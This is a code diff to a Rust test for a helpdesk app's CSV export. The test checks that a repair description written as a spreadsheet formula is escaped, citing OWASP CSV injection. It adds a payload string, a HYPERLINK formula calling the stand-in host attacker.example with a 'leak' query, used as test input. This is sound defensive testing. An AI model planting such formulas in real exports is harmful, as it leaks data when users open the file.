@@ -14,6 +14,8 @@ use support::web::{Panel, tile};
 use support::{ADMIN, STOREKEEPER, SUPPORT, Workdir};
 
 const AUTHOR: i64 = 555_000_901;
+/// A description a spreadsheet would run as a formula.
+const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")";
 
 fn file(app: &App, kind: Kind, branch: &str) -> i64 {
     support::file_request(app, AUTHOR, kind, Some(branch), Priority::Medium, "Не печатает")
@@ -34,7 +36,8 @@ fn setup() -> (Workdir, FakeTelegram, Panel) {
     file(&app, Kind::Repair, "LVIV");
     file(&app, Kind::Repair, "HQ");
     clock.set(Utc::now() - Duration::days(10));
-    let repairs: Vec<i64> = (0..3).map(|_| file(&app, Kind::Repair, "LVIV")).collect();
+    let mut repairs: Vec<i64> = (0..2).map(|_| file(&app, Kind::Repair, "LVIV")).collect();
+    repairs.push(support::file_request(&app, AUTHOR, Kind::Repair, Some("LVIV"), Priority::Medium, FORMULA));
     file(&app, Kind::Cartridge, "HQ");
     file(&app, Kind::Cartridge, "HQ");
     clock.advance(Duration::minutes(20));
@@ -91,6 +94,13 @@ fn an_admin_sees_the_numbers_of_helpdesk_report_and_of_the_export() {
     assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"requests-"));
     let csv = r.text().unwrap();
     assert_eq!(csv.lines().count(), 1 + 5, "{csv}");
+    // Opened in a spreadsheet, text people typed stays text (OWASP: CSV injection).
+    let fields: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    assert!(fields.contains(&format!("'{FORMULA}")), "{csv}");
+    assert!(!fields.iter().any(|f| f.starts_with(['=', '+', '-', '@'])), "{csv}");
     // The workbook: its Summary sheet's total is the page's.
     let r = panel.get("/reports/requests.xlsx?kind=repair", Some(&admin));
     assert_eq!(r.status(), 200);
